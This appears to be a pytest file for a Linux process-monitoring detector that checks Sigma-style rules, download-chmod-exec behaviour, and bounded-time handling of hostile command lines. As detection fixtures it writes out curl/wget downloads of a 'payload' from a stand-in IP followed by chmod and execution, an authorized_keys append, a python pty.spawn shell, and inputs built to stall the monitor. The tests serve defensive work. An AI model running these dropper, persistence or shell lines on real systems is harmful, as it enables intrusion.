"""The detector in-process: a rule that raises is counted and reported, never raised, and the
other rules still run; the text format shows the rule's author; counters add up."""
from __future__ import annotations

import logging
import os
import subprocess
import time

from monitor.detect.engine import Detector
from monitor.detect.loader import CompiledRule, load
from monitor.events import AlertEvent, ProcessEvent, RuleInfo
from monitor.output import to_json, to_text

RULE = """title: id run
id: 0b5e0000-0000-4000-8000-0000000000aa
status: test
author: Jane Roe
level: low
tags: [attack.t1033]
logsource: {category: process_creation, product: linux}
detection:
  sel: {Image|endswith: /id}
  condition: sel
"""


def info(rid: str) -> RuleInfo:
    return RuleInfo(id=rid, title="broken", level="high", status="test", author="x", tags=(),
                    references=(), source="sigma", file="f.yml")


def event(**kw) -> dict:
    ev = {"event": "exec", "time": "2026-12-01T10:00:00.000000000Z", "pid": 42, "exec_id": "b:1:42",
          "exe": "/usr/bin/id", "argv": ["id", "-u"], "user": "root", "uid": 0, "ancestry": None}
    ev.update(kw)
    return ev


def test_a_failing_rule_is_counted_and_reported_once_and_others_still_alert(tmp_path, caplog):
    (tmp_path / "r.yml").write_text(RULE)
    good, skipped = load([str(tmp_path)])
    assert skipped == []

    def explode(view):
        raise KeyError("boom")

    bad = CompiledRule(info("0b5e0000-0000-4000-8000-0000000000bb"), explode, [], None)
    det = Detector([bad, *good], [])
    with caplog.at_level(logging.WARNING, logger="procsentry.detect"):
        first = det.observe(event())
        second = det.observe(event(pid=43, exec_id="b:1:43"))
    assert [(a.rule.id, a.pid) for a in first + second] == [
        ("0b5e0000-0000-4000-8000-0000000000aa", 42), ("0b5e0000-0000-4000-8000-0000000000aa", 43)]
    c = det.counters()
    assert c["evaluation_errors"] == 2
    assert c["alerts_per_rule"] == {"0b5e0000-0000-4000-8000-0000000000aa": 2}
    assert c["rules_loaded"] == 2 and c["rules_skipped"] == 0 and c["events_evaluated"] == 2
    warnings = [r.getMessage() for r in caplog.records]
    assert len(warnings) == 1 and "0b5e0000-0000-4000-8000-0000000000bb" in warnings[0]


def test_same_process_image_alerts_once_per_rule(tmp_path):
    (tmp_path / "r.yml").write_text(RULE)
    det = Detector(*load([str(tmp_path)]))
    assert len(det.observe(event())) == 1
    assert det.observe(event()) == []  # the same event again (a replayed duplicate)
    assert len(det.observe(event(time="2026-12-01T10:00:01.000000000Z"))) == 1  # a re-exec


def test_text_and_json_show_the_author(tmp_path):
    (tmp_path / "r.yml").write_text(RULE)
    det = Detector(*load([str(tmp_path)]))
    [alert] = det.observe(event())
    assert isinstance(alert, AlertEvent)
    line = to_text(alert).decode()
    assert line == ("10:00:00.000 ALERT         42 LOW id run [0b5e0000-0000-4000-8000-0000000000aa, "
                    "attack.t1033, by Jane Roe] root /usr/bin/id [id -u]\n")
    assert b'"author":"Jane Roe"' in to_json(alert)


def test_download_chmod_exec_reaches_an_executable_of_any_name():
    """The download behaviour is planned only for downloaders and chmod; while a downloaded file
    is executable and not yet run (`pending`), every exec is shown to it, whatever its name."""
    det = Detector.from_paths(None)
    dl = next(b for b in det.behaviours if b.info.id.endswith("000000000011"))
    common = {"cwd": "/tmp/d", "sessionid": 7, "user": "bob", "uid": 1000}
    assert det.observe(event(pid=50, exec_id="b:1:50", exe="/usr/bin/curl", filename="/usr/bin/curl",
                             argv=["curl", "-o", "payload", "http://198.51.100.7/p"], **common)) == []
    assert dl.pending == 0
    for pid, chmod in ((51, ["chmod", "+x", "payload"]), (151, ["chmod", "755", "payload"])):  # twice
        assert det.observe(event(pid=pid, exec_id=f"b:1:{pid}", exe="/usr/bin/chmod", filename="/usr/bin/chmod",
                                 argv=chmod, **common)) == []
        assert dl.pending == 1
    assert det.observe(event(pid=52, exec_id="b:1:52", exe="/usr/bin/ls", filename="/usr/bin/ls",
                             argv=["ls"], **common)) == []
    alerts = det.observe(event(pid=53, exec_id="b:1:53", exe="/tmp/d/payload", filename="./payload",
                               argv=["./payload"], **common))
    [alert] = [a for a in alerts if a.rule.id == dl.info.id]  # (and the exec-from-/tmp rule)
    assert (alert.rule.id, alert.pid, alert.matched["file"], alert.matched["chmod"]) == (
        dl.info.id, 53, "/tmp/d/payload", "chmod +x payload")
    assert dl.pending == 0


def test_the_pipeline_asks_before_handing_forks_and_exits():
    det = Detector.from_paths(None)
    assert [det.wants(k) for k in ("exec", "existing", "missed", "fork", "exit")] == [True, True, True, False, False]


def record(**kw) -> ProcessEvent:
    """A live exec record, as the pipeline hands it to the detector."""
    base = dict(event="exec", time="2026-12-01T10:00:00.000000000Z", source="bpf", pid=42, ppid=1,
                exec_id="b:1:42", parent_exec_id="b:0:1", uid=0, euid=0, gid=0, egid=0, user="root",
                comm="id", exe="/usr/bin/id", argv=("id", "-u"), argv_truncated=False, cwd="/",
                start_time=1, container_id=None, ns=None, enrichment="full")
    base.update(kw)
    return ProcessEvent(**base)


def test_an_exit_only_field_is_null_on_an_exec_record(tmp_path):
    """`signal` is an exit record's: on a live exec record it is absent (null), as in a replayed
    line, whether a rule tests it under NOT or files it in the literal index."""
    (tmp_path / "not_killed.yml").write_text(RULE.replace("0000000000aa", "0000000000ab").replace(
        "  sel: {Image|endswith: /id}\n  condition: sel",
        "  sel: {Image|endswith: /id}\n  killed: {signal: 9}\n  condition: sel and not killed"))
    (tmp_path / "killed.yml").write_text(RULE.replace("0000000000aa", "0000000000ac").replace(
        "  sel: {Image|endswith: /id}\n  condition: sel", "  killed: {signal: 9}\n  condition: killed"))
    det = Detector.from_paths([str(tmp_path)], builtin=False)
    for ev in (record(), event()):
        assert [a.rule.id for a in det.observe(ev)] == ["0b5e0000-0000-4000-8000-0000000000ab"]
        det._seen.clear()
    assert det.counters()["evaluation_errors"] == 0


def test_parent_user_is_kept_for_a_fieldref_to_it(tmp_path):
    (tmp_path / "same_user.yml").write_text(RULE.replace(
        "  sel: {Image|endswith: /id}\n  condition: sel",
        "  sel:\n    Image|endswith: /id\n    User|fieldref: ParentUser\n  condition: sel"))
    det = Detector.from_paths([str(tmp_path)], builtin=False)
    assert det.observe(record(pid=7, exec_id="b:1:7", exe="/usr/bin/bash", comm="bash", user="bob")) == []
    assert det.observe(record(pid=8, exec_id="b:1:8", parent_exec_id="b:1:7", user="root")) == []
    [alert] = det.observe(record(pid=9, exec_id="b:1:9", parent_exec_id="b:1:7", user="bob"))
    assert (alert.pid, alert.matched.get("User")) == (9, "bob")


AUTH_KEYS = "5e27c0de-0000-4000-8000-000000000018"


def test_a_hostile_command_line_costs_the_builtin_rules_linear_time():
    """Any user chooses the command line, up to the 32 KiB the sensor captures. The
    authorized_keys rule's `>>?\\s*\\S*authorized_keys` backtracked over every `>` to the end of
    the line: a shell whose argv held "authorized_keys" and 32,000 `>` cost the detector ~1.5 s
    to evaluate (twice when it alerts), ~3.7 s per exec live, so ten such execs by an
    unprivileged user stalled the monitor ~37 s while the kernel dropped others' records."""
    det = Detector.from_paths(None)
    gt = ">" * 32000
    t0 = time.perf_counter()
    for i in range(3):
        det.observe(event(exe="/usr/bin/dash", argv=["sh", "-c", f": authorized_keys {gt}{i}"],
                          exec_id=f"b:1:{i}"))
    assert time.perf_counter() - t0 < 1.0
    # what the rule is for still alerts, and reading the file still does not
    for i, (cmd, alerts) in enumerate((("echo k >>/root/.ssh/authorized_keys", 1),
                                       ("echo k > ~/.ssh/authorized_keys", 1),
                                       ("echo k>>x;cat authorized_keys", 0),
                                       ("grep -c k /root/.ssh/authorized_keys", 0),
                                       ("cat authorized_keys > /tmp/copy", 0))):
        got = det.observe(event(exe="/usr/bin/dash", argv=["sh", "-c", cmd], exec_id=f"b:2:{i}"))
        assert [a.rule.id for a in got if a.rule.id == AUTH_KEYS] == [AUTH_KEYS] * alerts, cmd


MEMFD = "5e27c0de-0000-4000-8000-000000000003"


def test_download_targets_in_option_clusters_and_directories():
    """How droppers spell a download: flags clustered before the value-taking one (curl -sSLo F,
    -fsSLO; wget -qO F), a value glued to it, wget -P DIR / curl --output-dir DIR. Each names
    the file written; -O- (stdout) and a value of another option name none."""
    from monitor.detect.behaviour import _download_targets as t
    u = "http://198.51.100.7/x/stage2?a=1"
    assert t("curl", ["curl", "-sSLo", "p", u]) == ["p"]
    assert t("curl", ["curl", "-sLop", u]) == ["p"]
    assert t("curl", ["curl", "-fsSLO", u]) == ["stage2"]
    assert t("curl", ["curl", "-kLs", u, "-o", "/tmp/p"]) == ["/tmp/p"]
    assert t("curl", ["curl", "--output-dir", "/tmp/d", "-sO", u]) == ["/tmp/d/stage2"]
    assert t("curl", ["curl", "-sH", "X-o: y", u]) == []  # -H took "X-o: y": nothing written
    assert t("curl", ["curl", "-so", "-", u]) == []
    assert t("wget", ["wget", "-qO", "p", u]) == ["p"]
    assert t("wget", ["wget", "-qOp", u]) == ["p"]
    assert t("wget", ["wget", "-qO-", u]) == []
    assert t("wget", ["wget", "-nv", u]) == ["stage2"]
    assert t("wget", ["wget", "-qP", "/tmp/d", u]) == ["/tmp/d/stage2"]
    assert t("wget", ["wget", "--directory-prefix=/tmp/d", u]) == ["/tmp/d/stage2"]
    assert t("wget", ["wget", "--output-document=p", u]) == ["p"]


def test_download_chmod_exec_through_busybox():
    """Alpine's wget and chmod are busybox applets (/usr/bin/wget -> /bin/busybox: exe busybox,
    argv[0] wget); elsewhere `busybox wget` does the same. Both are a download and a chmod."""
    det = Detector.from_paths(None)
    common = {"cwd": "/srv/d", "sessionid": 8, "user": "bob", "uid": 1000}
    for i, (dl, ch) in enumerate(((["wget", "-qO", "p1", "http://198.51.100.7/p"], ["chmod", "+x", "p1"]),
                                  (["busybox", "wget", "-O", "p2", "http://198.51.100.7/p"],
                                   ["busybox", "chmod", "755", "p2"]))):
        n = 60 + 3 * i
        assert det.observe(event(pid=n, exec_id=f"b:1:{n}", exe="/usr/bin/busybox", filename="/bin/" + dl[0],
                                 argv=dl, **common)) == []
        assert det.observe(event(pid=n + 1, exec_id=f"b:1:{n + 1}", exe="/usr/bin/busybox",
                                 filename="/bin/" + ch[0], argv=ch, **common)) == []
        name = dl[-2]
        alerts = det.observe(event(pid=n + 2, exec_id=f"b:1:{n + 2}", exe=f"/srv/d/{name}", filename=f"./{name}",
                                   argv=[f"./{name}"], **common))
        assert [(a.rule.id[-2:], a.pid, a.matched["file"], a.matched["downloaded_by"]) for a in alerts] == [
            ("11", n + 2, f"/srv/d/{name}", " ".join(dl))]


def test_a_script_is_judged_by_where_it_is_not_by_its_interpreter():
    """A #! script's Image is its interpreter (/usr/bin/dash); the rules for world-writable and
    hidden directories also look at the script (`script`: filename against cwd), with the same
    tool-cache exclusions (a pip entry point in ~/.local/bin is a #! python script)."""
    det = Detector.from_paths(None)
    ww, hidden = "5e27c0de-0000-4000-8000-000000000005", "5e27c0de-0000-4000-8000-000000000006"
    cases = [("/tmp/.x/run", "/", [ww, hidden]), ("./run", "/dev/shm/.x", [ww, hidden]),
             ("./.x/run", "/srv", [hidden]), ("/home/bob/.local/bin/tool", "/", []),
             ("/tmp/.venv/bin/tool", "/", [ww, hidden]), ("/usr/bin/tool", "/tmp", [])]
    for i, (filename, cwd, want) in enumerate(cases):
        got = det.observe(event(pid=70 + i, exec_id=f"b:7:{i}", exe="/usr/bin/dash", filename=filename,
                                argv=["/bin/sh", filename, "x"], cwd=cwd, uid=1000, user="bob"))
        assert sorted(a.rule.id for a in got) == want, filename
    # a binary: no script, Image alone decides
    got = det.observe(event(pid=80, exec_id="b:7:80", exe="/usr/bin/dash", filename="/bin/sh",
                            argv=["sh", "-c", "true"], cwd="/tmp/.x", uid=1000, user="bob"))
    assert got == []


def test_a_memfd_named_like_runcs_clone_is_excluded_only_when_root_runs_it():
    """runc (as root) re-executes itself from a memfd named runc_cloned; any user can give a
    memfd that name, so the name alone must not hide a fileless payload."""
    det = Detector.from_paths(None)
    exe = "/memfd:runc_cloned:/proc/self/exe (deleted)"
    for i, (uid, alerts) in enumerate(((0, []), (1000, [MEMFD]))):
        got = det.observe(event(exe=exe, argv=["runc", "init"], uid=uid, euid=uid, user=None,
                                exe_fileless=True, exec_id=f"b:5:{i}", pid=50 + i))
        assert [a.rule.id for a in got] == alerts, uid


ARGV0 = "5e27c0de-0000-4000-8000-000000000020"


def test_argv0_through_a_deep_self_link_is_resolved_in_bounded_time(tmp_path):
    """argv[0] is any user's text: an absolute one naming no program like the executable's is
    resolved on the filesystem. os.path.realpath lstat()ed every prefix of it, each a walk from
    the root: under a directory ~2,000 levels deep whose last level links to itself, an argv[0]
    of that path and 14,000 more `/L` cost ~2 s per exec (each exec its own string, so the
    cache never helped)."""
    top = tmp_path / "deep"
    top.mkdir()
    try:
        _argv0_through(top, tmp_path)
    finally:
        # pytest's cleanup (shutil.rmtree) recurses once per level: it cannot remove this tree
        subprocess.run(["rm", "-rf", "--", str(top)], check=True)


def test_argv0_outside_the_system_trees_is_resolved_from_the_dentry_cache_alone(tmp_path):
    """A lookup in a FUSE filesystem waits for its daemon, and any user can mount one and name a
    path in it as argv[0]: outside the trees only root writes to, argv[0] is resolved only where
    the kernel's dentry cache answers without asking a filesystem (openat2 RESOLVE_CACHED),
    else left as it is, normalised. procfs is such a filesystem (its entries are revalidated on
    every walk), as a FUSE mount would be; a symlink just made in /tmp is cached."""
    from monitor.detect import behaviour
    from userspace.procfs import DEFAULT_ROOT

    sleeper = subprocess.Popen(["sleep", "30"])
    try:
        through_proc = f"{DEFAULT_ROOT}/{sleeper.pid}/root/usr/bin/../bin/env"
        assert os.path.realpath(through_proc) == os.path.realpath("/usr/bin/env")  # a full walk
        behaviour._realpath.cache_clear()
        assert behaviour._realpath(through_proc) == f"{DEFAULT_ROOT}/{sleeper.pid}/root/usr/bin/env"
    finally:
        sleeper.kill()
        sleeper.wait()
    os.symlink("/usr/bin/env", tmp_path / "e")
    resolved = behaviour._realpath(f"{tmp_path}/e")
    if behaviour._cached_walks[0] and behaviour._SYS_OPENAT2 is not None:
        assert resolved == os.path.realpath("/usr/bin/env")  # cached: resolved, as exec would
    else:  # no RESOLVE_CACHED here (before 5.12, or openat2 filtered): left as it is
        assert resolved == f"{tmp_path}/e"
    # under the system trees the walk may ask the filesystem: /bin/sh -> dash, bash...
    assert behaviour._realpath("/bin/sh") == os.path.realpath("/bin/sh")


def _argv0_through(top, tmp_path) -> None:
    fd = os.open(top, os.O_RDONLY)
    depth = (4000 - len(str(top))) // 2  # the deepest level's path stays under PATH_MAX
    for _ in range(depth):
        os.mkdir("a", dir_fd=fd)
        nxt = os.open("a", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    deep = str(top) + "/a" * depth
    os.symlink(deep, "L", dir_fd=fd)
    os.close(fd)
    det = Detector.from_paths(None)
    t0 = time.perf_counter()
    for i in range(2):
        argv0 = deep + "/L" * ((32000 - len(deep)) // 2) + f"/x{i}"
        got = det.observe(event(exe="/usr/bin/true", filename="/usr/bin/true", argv=[argv0],
                                exec_id=f"b:3:{i}"))
        assert [a.rule.id for a in got] == [ARGV0]  # it names nothing like /usr/bin/true
    assert time.perf_counter() - t0 < 1.0
    # a path that leads to the executable is still not a mismatch; one that leads elsewhere is
    os.symlink("/usr/bin/true", tmp_path / "t")
    os.symlink("/usr/bin/env", tmp_path / "e")
    for i, (argv0, alerts) in enumerate(((f"{top}/../t", 0), (f"{tmp_path}/e", 1))):
        got = det.observe(event(exe="/usr/bin/true", filename="/usr/bin/true", argv=[argv0],
                                exec_id=f"b:4:{i}"))
        assert [a.rule.id for a in got] == [ARGV0] * alerts, argv0


def test_live_parent_command_line_is_whole_past_the_ancestor_cut():
    """Live, the ancestry's argv is cut after 256 bytes (output size) but the detector reads the
    process table's whole argv: a parent padding its command line hid the rest before."""
    import orjson

    from monitor.build import EventBuilder
    from monitor.detect.fields import resolve
    from monitor.events import ProcessEvent
    from monitor.table import Entry

    long = ["python3", "-c", "#" * 300 + ";import pty;pty.spawn('/bin/sh')"]
    parent = Entry(pid=600, start_ticks=1, exec_id="b:5:600", exe="/usr/bin/python3.11", argv=tuple(long))

    class Table:
        def ancestry(self, entry, depth):
            return [parent]
    anc = EventBuilder(Table(), None, 10).ancestry(None)
    assert anc[0].argv == ("python3", "-c") and anc[0].argv_truncated is True
    assert b"pty.spawn" not in orjson.dumps(anc[0])  # the output keeps its bound
    child = ProcessEvent(event="exec", time="t", source="bpf", pid=601, ppid=600, exec_id="b:5:601",
                         parent_exec_id="b:5:600", uid=0, euid=0, gid=0, egid=0, user="root",
                         comm="sh", exe="/usr/bin/dash", argv=("sh",), argv_truncated=False, cwd="/", start_time=2,
                         container_id=None, ns=None, enrichment="full", ancestry=anc)
    assert resolve(child, "ParentCommandLine") == " ".join(long)
    assert resolve(child, "parent.argv") == tuple(long)
    assert resolve(child, "ancestry.argv") == ("python3 -c",)  # deeper fields keep the bound
